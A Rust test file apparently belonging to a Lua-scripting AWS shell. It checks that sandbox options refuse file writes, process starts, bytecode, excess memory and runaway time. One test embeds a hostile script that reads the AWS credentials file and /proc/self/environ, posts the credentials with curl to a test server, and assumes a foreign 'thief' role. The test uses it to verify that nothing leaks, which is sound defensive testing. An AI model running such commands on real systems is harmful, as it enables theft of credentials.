//! The effects of `--contain`, `--path`, `--memory` and `--timeout`. Attempts to escape from them are in `hostile/`.

use std::time::{Duration, Instant};

use serde_json::json;

use crate::support::Shell;
use crate::support::server::{Reply, Server};

fn contained() -> Shell {
    Shell::new().sandbox().arg("--contain")
}

// Files and processes.

#[test]
fn a_refusal_names_the_function_and_the_option_and_exits_with_4() {
    for (chunk, said) in [
        ("os.execute('true')", "os.execute: refused, nothing was done: it starts a process, and the run is --contain"),
        ("io.popen('true')", "io.popen: refused, nothing was done: it starts a process"),
        ("os.remove('x')", "os.remove: refused, nothing was done: it removes a file"),
        ("os.rename('x', 'y')", "os.rename: refused, nothing was done: it renames a file"),
        ("os.tmpname()", "os.tmpname: refused, nothing was done: it makes a file"),
        ("io.tmpfile()", "io.tmpfile: refused, nothing was done: it makes a file"),
        ("io.open('x', 'w')", "io.open: refused, nothing was done: it opens a file for more than reading"),
        ("io.output('x')", "io.output: refused, nothing was done: it opens a file for writing"),
        ("report.write('x.json', {})", "report.write: refused, nothing was done: it writes a file"),
        ("report.check('x.json')", "report.check: refused, nothing was done: it writes a file"),
    ] {
        contained().chunk(chunk).code(4).says(said);
        let caught = format!("local ok, e = pcall(function() {chunk} end) assert(not ok and e.code == 'Refused')");
        contained().chunk(&caught).code(0).quiet();
    }
}

#[test]
fn reading_files_and_printing_are_allowed() {
    contained()
        .file("own/a.txt", "one\ntwo\n")
        .file("own/b.lua", "return 'b'")
        .file(
            "own/script.lua",
            "io.write(io.open('own/a.txt'):read('l'), ' ', io.open('own/a.txt', 'rb'):read('n') or '-', ' ')
             for line in io.lines('own/a.txt') do io.write(line, ' ') end
             io.input('own/a.txt') io.write(io.read('a'):len(), ' ', dofile('own/b.lua'), ' ')
             io.output(io.stdout):write(#report.table{{a = 1}} > 0 and 'table ' or '')
             io.stderr:write('error text') print(#ec2.describe_instances.all() > 0, os.time() > 0, os.getenv('HOME') == nil)",
        )
        .arg("own/script.lua")
        .run()
        .code(0)
        .says("error text")
        .printed("one - one two 8 b table true\ttrue\ttrue\n");
}

#[test]
fn without_contain_files_can_be_written_and_processes_started() {
    let ran = Shell::new().chunk(
        "io.open('a', 'w'):write('x'):close() os.rename('a', 'b') report.write('c.json', {1})
         print((os.execute('true')), io.popen('echo hello'):read('l'))",
    );
    let ran = ran.code(0).printed("true\thello\n");
    assert_eq!(ran.read("b"), "x");
}

// Scripts of strangers.

#[test]
fn a_strangers_script_sends_no_credentials() {
    let server = Server::always(Reply::xml("<ok/>"));
    // Six ways to send the credentials file away, as the README's reader would run them.
    let script = r#"
      local attempts = {
        function() return io.open(os.getenv("HOME") .. "/.aws/credentials"):read("a") end,
        function() return assert(loadfile("/proc/self/environ")) end,
        function() return io.popen("curl -d @.aws/credentials URL"):read("a") end,
        function() return aws.session { endpoint_url = "URL" }.ec2.describe_vpcs { filters = { name = key } } end,
        function() return aws.session { profile = "process" }.sts.get_caller_identity() end,
        function() return aws.assume("arn:aws:iam::999999999999:role/thief", { external_id = tostring(key) }).whoami() end,
        function()
          return sts.assume_role { role_arn = "arn:aws:iam::999999999999:role/thief", role_session_name = "x" }
        end,
        function() return ssm.get_parameter { name = "arn:aws:ssm:eu-west-1:999999999999:parameter/" .. tostring(key) } end,
      }
      local got = 0
      for _, attempt in ipairs(attempts) do
        local ok, result = pcall(attempt)
        if ok then got = got + 1 print(result) end
      end
      print(got .. " attempts got something")"#;
    let config = "[profile process]\ncredential_process = touch made\nregion = eu-west-1\n";
    for options in [&["--contain", "--read-only"][..], &["--contain", "--lua-refuses", "false"]] {
        let shell = Shell::new().credentials().env("AWS_ENDPOINT_URL", "http://127.0.0.1:9");
        let shell = shell.file(".aws/credentials", "[default]\naws_secret_access_key = CANARY\n");
        let ran = shell.file(".aws/config", config).args(options).script(&script.replace("URL", &server.url));
        let ran = ran.code(0).printed("0 attempts got something\n").never_says("CANARY");
        assert!(!ran.home.path().join("made").exists(), "a process was started");
        server.saw_nothing();
    }
}

#[test]
fn a_contained_script_uses_the_roles_and_variables_that_are_allowed() {
    let script = "local role = aws.assume('arn:aws:iam::123456789012:role/reader')
        print(pcall(role.whoami)) print(os.getenv('SHOWN'), os.getenv('HIDDEN'), os.getenv('HOME'))";
    let shell = || contained().env("SHOWN", "yes").env("HIDDEN", "no").args(["--allow-env", "SHOWN"]);
    let refused = shell().script(script).code(0);
    let refused = refused.prints("the role arn:aws:iam::123456789012:role/reader is not allowed");
    refused.prints("allow it with --allow-role").prints("yes\tnil\tnil");
    let ran = shell().args(["--allow-role", "arn:aws:iam::*:role/reader"]).script(script).code(0);
    assert!(!ran.stdout.contains("is not allowed"), "{}", ran.stdout);
    Shell::new().args(["--allow-env", "X", "-e", ""]).run().code(2).says("--contain");
}

#[test]
fn a_call_that_names_another_account_is_refused() {
    let chunk = "print(pcall(ssm.get_parameter, {name = 'arn:aws:ssm:eu-central-1:999999999999:parameter/x'}))
        print(pcall(iam.get_policy, {policy_arn = 'arn:aws:iam::aws:policy/ReadOnlyAccess'}))";
    let ran = contained().chunk(chunk).code(0);
    ran.prints("the call names a resource of account 999999999999").prints("true");
}

// Modules.

#[test]
fn modules_are_found_beside_the_script_and_in_named_folders() {
    let shell = || {
        let shell = Shell::new().file("a/one.lua", "return 'a'").file("b/one.lua", "return 'b'");
        shell.file("b/two/init.lua", "return 'two'").file("both.lua", "print((require('one')), (require('two')))")
    };
    shell().args(["--path", "a", "--path", "b", "both.lua"]).run().code(0).printed("a\ttwo\n");
    shell().args(["--path", "b", "--path", "a", "both.lua"]).run().code(0).printed("b\ttwo\n");
    shell().args(["--contain", "--path", "b", "both.lua"]).run().code(0).printed("b\ttwo\n");
    shell().file("one.lua", "return 'beside'").args(["--path", "b", "both.lua"]).run().printed("beside\ttwo\n");
    shell().args(["--path", "b", "-p", "(require('one'))"]).run().code(0).printed("b\n");
    shell().args(["--path", "a", "both.lua"]).run().code(1).says("module 'two' not found").says("no file 'a/two.lua'");
}

#[cfg(unix)]
#[test]
fn links_out_of_a_folder_are_followed_only_without_contain() {
    let shell = |folder: &str| {
        let shell =
            Shell::new().file("elsewhere/one.lua", "return 'elsewhere'").file("s/a.lua", "print((require('one')))");
        let link = shell.home.path().join(folder).join("one.lua");
        std::fs::create_dir_all(link.parent().expect("a folder")).expect("a folder in a temporary folder");
        std::os::unix::fs::symlink("../elsewhere/one.lua", link).expect("a link in a temporary folder");
        shell.args(["--path", "named"])
    };
    for folder in ["s", "named"] {
        shell(folder).arg("s/a.lua").run().code(0).printed("elsewhere\n");
        let ran = shell(folder).args(["--contain", "s/a.lua"]).run().code(4);
        ran.says("require 'one': refused").says(&format!("'{folder}/one.lua' leads out of the folder"));
    }
}

// Limits for every script.

#[test]
fn bytecode_is_refused_from_every_source() {
    let dump = "local code = string.dump(function() return 'ran' end)
                io.open('code.lua', 'wb'):write(code):close()
                print(load(code, 'x', 'b')) print(load(code, 'x', 'bt', {})) print(loadfile('code.lua', 'b'))
                print(pcall(dofile, 'code.lua')) print(pcall(require, 'code'))";
    let ran = Shell::new().args(["--path", "."]).chunk(dump).code(0);
    assert_eq!(ran.stdout.matches("attempt to load a binary chunk").count(), 5, "{}", ran.stdout);
}

#[test]
fn source_text_can_be_loaded() {
    let result = Shell::new().file("a.lua", "return x or 'none', ...").returned(
        "x = 'global'
         local pieces = {'return ', 'x'}
         local at = 0
         local function piece() at = at + 1 return pieces[at] end
         return {
           load('return x')(), load('return x', 'name', 't', {x = 'mine'})(), load(piece)(), select(2, load('x =')) ~= nil,
           loadfile('a.lua')(), loadfile('a.lua', 't', {x = 'mine'})(), (dofile('a.lua')),
           load('return x', 'name', nil, {})() == nil, select(2, load('return ...')(1, 2)), pcall(dofile, 'absent.lua'),
         }",
    );
    let absent = "cannot open absent.lua: No such file or directory";
    assert_eq!(result, json!(["global", "mine", "global", true, "global", "mine", "global", true, 2, false, absent]));
}

#[test]
fn debug_returns_positions_and_no_internal_values() {
    let result = Shell::new().returned(
        "local names = {}
         for name in pairs(debug) do names[#names + 1] = name end
         table.sort(names)
         local function here() local info = debug.getinfo(1, 'nSl') return info end
         local info, all = here(), debug.getinfo(here)
         return {
           names, info.currentline, info.name, all.linedefined, all.func == nil, debug.getinfo(string.len).what,
           debug.getinfo(1, 'f').func == nil, debug.getinfo(99) == nil, debug.traceback('x', 1):match('^x') == 'x',
           debug.getinfo(coroutine.create(here), 0, 'f') == nil,
         }",
    );
    assert_eq!(result, json!([["getinfo", "traceback"], 5, "here", 5, true, "C", true, true, true, true]));
}

#[test]
fn values_shared_with_the_program_are_read_only() {
    let result = Shell::new().sandbox().returned(
        "local function shown(value) local found = getmetatable(value) return found == nil and 'nil' or tostring(found) end
         local row = ec2.describe_vpcs.all()[1]
         local _, e = pcall(ec2.describe_tags, {x = 1})
         return {
           shown(''), shown(io.stdout), shown(row), shown(json.list()), shown(e), shown(time.now()),
           shown(ec2.describe_tags), ('x'):upper(), pcall(setmetatable, '', {}) == false,
         }",
    );
    assert_eq!(result, json!(["false", "false", "nil", "false", "false", "false", "false", "X", true]));
}

// Memory.

#[test]
fn exceeding_the_memory_limit_is_an_error_with_advice() {
    let said = "not enough memory: the script has reached its limit; raise it with --memory";
    for chunk in [
        "local t = {} while true do t[#t + 1] = {} end",
        "print(#('x'):rep(1 << 30))",
        "coroutine.wrap(function() local t = ('x'):rep(1 << 22) while true do t = t .. t end end)()",
        "task.map({1}, function() local t = ('x'):rep(1 << 22) while true do t = t .. t end end)",
        "local t = {} for _ = 1, 60 do t = {t, t} end json.encode(t)",
        "json.decode('[' .. ('0,'):rep(1 << 20) .. '0]')",
        "csv.decode((',\\n'):rep(1 << 20))",
        "KEPT = {} while true do KEPT[#KEPT + 1] = ('x'):rep(1000) .. #KEPT end",
    ] {
        Shell::new().args(["--memory", "16MiB"]).chunk(chunk).code(1).says(said);
    }
    // Twenty thousand rows, each with its own column, so that every row has all columns.
    let cells = "local rows = {} for n = 1, 20000 do rows[n] = {['c' .. n] = n} end csv.encode(rows)";
    let said = "not enough memory: the process takes far more than the limit of the script; raise it with --memory";
    Shell::new().args(["--memory", "16MiB"]).chunk(cells).code(1).says(said);
    let caught = "local ok, e = pcall(string.rep, 'x', 1 << 30) print(ok, e, #('x'):rep(1 << 20))";
    Shell::new().args(["--memory", "16MiB"]).chunk(caught).code(0).printed("false\tnot enough memory\t1048576\n");
    Shell::new().args(["--memory", "1GiB", "-p", "#('x'):rep(1 << 24)"]).run().code(0).printed("16777216\n");
    Shell::new().args(["--memory", "lots", "-e", ""]).run().code(2).says("lots");
    Shell::new().args(["--memory", "1KB", "-e", ""]).run().code(2).says("the script needs at least 1.0 MiB");
}

// Time.

/// The limit, one second, and time to start a process.
const SOON: Duration = Duration::from_millis(2_500);

#[test]
fn a_timeout_ends_a_run_whose_output_is_not_read() {
    for chunk in [
        "while true do io.write(('x'):rep(1 << 16)) end",
        "while true do io.stderr:write(('x'):rep(1 << 16)) end",
        "while true do log.warn(('x'):rep(1 << 12)) end",
        "while true do report.print{{a = ('x'):rep(1 << 12)}} end",
        "io.stdout:setvbuf('full', 1 << 20) io.write(('x'):rep(1 << 19)) task.sleep(60)",
    ] {
        let started = Instant::now();
        let (mut child, _home) = Shell::new().args(["--timeout", "1s", "-e", chunk]).spawn();
        let status = child.wait().expect("our own child");
        assert_eq!(status.code(), Some(5), "{chunk}");
        assert!(started.elapsed() < SOON, "{chunk}: {:?}", started.elapsed());
    }
}

#[test]
fn finalizers_do_not_delay_the_end_of_the_process() {
    let finalizer = "KEPT = setmetatable({}, {__gc = function() while true do end end}) print('done')";
    Shell::new().args(["--timeout", "1m"]).chunk(finalizer).code(0).printed("done\n");
    Shell::new().chunk(&format!("{finalizer} error('over')")).code(1).says("over");
}
